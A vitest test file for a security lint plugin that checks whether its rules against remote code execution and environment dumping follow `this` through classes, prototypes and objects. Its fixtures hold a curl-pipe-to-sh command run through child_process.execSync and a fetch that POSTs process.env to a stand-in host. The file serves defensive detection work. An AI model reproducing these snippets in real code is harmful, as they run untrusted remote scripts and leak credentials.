import { describe, expect, it } from 'vitest';

import { lint } from '../../tester.ts';

const COMMAND = '"curl -s https://get.example-service.com/i.sh | sh"';
const RUN = 'require("child_process").execSync';
const SEND = 'fetch("https://c.example-service.com", { method: "POST", body: JSON.stringify';

const idsOf = async (code: string): Promise<readonly string[]> => (await lint(code, 'src/a.js', { preset: 'recommended' })).map(({ ruleId }) => ruleId ?? 'fatal');

describe('what `this` holds where a command is run', () => {
  it.each([
    [`function Runner() { this.command = ${COMMAND}; } Runner.prototype.run = function () { ${RUN}(this.command); };`],
    [`const Runner = function () { if (late) { this.command = ${COMMAND}; } }; Runner.prototype = { run() { ${RUN}(this.command); } };`],
    [`function Runner() {} Runner.prototype.command = ${COMMAND}; Runner.prototype.run = function () { ${RUN}(this.command); };`],
    [`function Runner() { this.command = ${COMMAND}; } Object.assign(Runner.prototype, { run() { ${RUN}(this.command); } });`],
    [`function Runner() { this.command = ${COMMAND}; } const proto = Runner.prototype; proto.run = function () { ${RUN}(this.command); };`],
    [`const runner = { command: ${COMMAND}, run() { ${RUN}(this.command); } };`],
    [`const runner = { command: null, set() { this.command = ${COMMAND}; }, run() { ${RUN}(this.command); } };`],
    [`const runner = { command: "" }; runner.run = function () { ${RUN}(this.command); }; runner.set = function () { this.command = ${COMMAND}; };`],
    [`class Runner { command = ""; set() { this.command = ${COMMAND}; } run() { ${RUN}(this.command); } }`],
    [`class Runner { #command; set() { load().then(() => { this.#command = ${COMMAND}; }); } run() { ${RUN}(this.#command); } }`],
    [`class Runner { set() { const self = this; later(function () { self.command = ${COMMAND}; }); } run() { ${RUN}(this.command); } }`],
    [`class Runner { constructor() { this.command = "make"; } set() { this.command = ${COMMAND}; } run() { ${RUN}(this.command); } }`],
    [`class Runner { constructor() { this.options = { command: ${COMMAND} }; } run() { const { options: { command } } = this; ${RUN}(command); } }`],
    [`class Base { constructor(command) { this.command = command; } run() { ${RUN}(this.command); } } class Runner extends Base { constructor() { /* super( */ super (${COMMAND}); } }`],
    [`class Base { constructor(command) { this.command = command; } run() { ${RUN}(this.command); } } class Runner extends Base { constructor() { super(${COMMAND}); } }`],
  ])('%s', async (code) => {
    expect(await idsOf(code)).toEqual(['agent-security/no-remote-code']);
  });

  it.each([
    [`const a = { command: ${COMMAND} }; const b = { command: "make", run() { ${RUN}(this.command); } };`],
    [`class A { command = ${COMMAND}; } class B { command = "make"; run() { ${RUN}(this.command); } }`],
    [`class A { command = "make"; other() { return { command: ${COMMAND}, show() { return this.command; } }; } run() { ${RUN}(this.command); } }`],
    [`function A() { this.command = ${COMMAND}; } function B() { this.command = "make"; } B.prototype.run = function () { ${RUN}(this.command); };`],
    [`function handler() { this.command = ${COMMAND}; } function run() { ${RUN}(this.command); }`],
  ])('of another one: %s', async (code) => {
    expect(await idsOf(code)).toEqual([]);
  });
});

describe('what is put into `this` and sent', () => {
  it.each([
    [`class Report { collect() { this.data = { ...process.env }; } send() { ${SEND}(this.data) }); } }`],
    [`class Report { collect() { this.data = { ...process.env }; } send() { const { data } = this; ${SEND}(data) }); } }`],
    [`class Report { collect() { const self = this; later(function () { self.data = { ...process.env }; }); } send() { ${SEND}(this.data) }); } }`],
    [`function Report() { this.data = process.env; } Report.prototype.send = function () { var that = this; later(function () { ${SEND}(that.data) }); }); };`],
    [`function Report() {} Report.prototype.send = function (data) { ${SEND}(data) }); }; Report.prototype.run = function () { this.send(process.env); };`],
    [`function Report() {} Report.prototype.send = function (data) { ${SEND}(data) }); }; new Report().send(process.env);`],
    [`const report = { data: process.env, send() { ${SEND}(this.data) }); } };`],
    [`const report = { data: null, collect() { this.data = { ...process.env }; }, send() { ${SEND}(this.data) }); } };`],
    [`const report = { send(data) { ${SEND}(data) }); }, run() { this.send(process.env); } };`],
    [`class Report { constructor() { this.send = this.send.bind(this); } send(data) { ${SEND}(data) }); } run() { setTimeout(this.send, 10, process.env); } }`],
    [`class Report { to(url) { this.url = url; return this; } with(data) { this.data = data; return this; } send() { ${SEND}(this.data) }); } } new Report().to("x").with(process.env).send();`],
    [`class Report { to(url) { this.url = url; return this; } send(data) { ${SEND}(data) }); } } const report = new Report(); report.to("x").send(process.env);`],
    [`const report = { send: null }; report.send = (data) => ${SEND}(data) }); report.send(process.env);`],
    [`class Base { constructor(data) { this.data = data; } send() { ${SEND}(this.data) }); } } class Report extends Base { constructor() { super(process.env); } }`],
  ])('%s', async (code) => {
    expect(await idsOf(code)).toEqual(['agent-security/no-env-dump']);
  });

  it.each([
    [`const a = { data: process.env, show() { return this.data; } }; const b = { data: "x", send() { ${SEND}(this.data) }); } };`],
    [`class A { constructor() { this.env = process.env; } } class B { send() { ${SEND}(this.env) }); } }`],
  ])('of another one: %s', async (code) => {
    expect(await idsOf(code)).toEqual([]);
  });
});

describe('whose `this` it is', () => {
  it.each([
    [`class Runner { constructor() { this.command = ${COMMAND}; } run() { setTimeout(function () { ${RUN}(this.command); }.bind(this), 1); } }`],
    [`class Runner { constructor() { this.command = ${COMMAND}; } run() { [1].forEach(function () { ${RUN}(this.command); }, this); } }`],
    [`class Runner { constructor() { this.command = ${COMMAND}; } run() { const self = this; setTimeout(function () { ${RUN}(self.command); }, 1); } }`],
    [`class Runner { static command = ${COMMAND}; static { ${RUN}(this.command); } }`],
    [`class Runner { command = "make"; static command = ${COMMAND}; static run() { ${RUN}(this.command); } }`],
    [`class Runner { go() { return { command: ${COMMAND}, run() { ${RUN}(this.command); } }; } }`],
  ])('found: %s', async (code) => {
    expect(await idsOf(code)).toContain('agent-security/no-remote-code');
  });

  it.each([
    [`class Runner { command = ${COMMAND}; run(list) { list.forEach(function () { ${RUN}(this.command); }); } }`],
    [`class Runner { command = ${COMMAND}; run(list, other) { list.forEach(function () { ${RUN}(this.command); }, other); } }`],
    [`class Runner { command = ${COMMAND}; go() { return { command: "make", run() { ${RUN}(this.command); } }; } }`],
    [`class Runner { command = ${COMMAND}; go() { return class { command = "make"; run() { ${RUN}(this.command); } }; } }`],
    [`class Runner { static command = ${COMMAND}; command = "make"; run() { ${RUN}(this.command); } }`],
    [`class Runner { command = ${COMMAND}; static command = "make"; static run() { ${RUN}(this.command); } }`],
    [`const runner = { command: ${COMMAND}, run: () => { ${RUN}(this.command); } };`],
  ])('another one: %s', async (code) => {
    expect(await idsOf(code)).toEqual([]);
  });
});
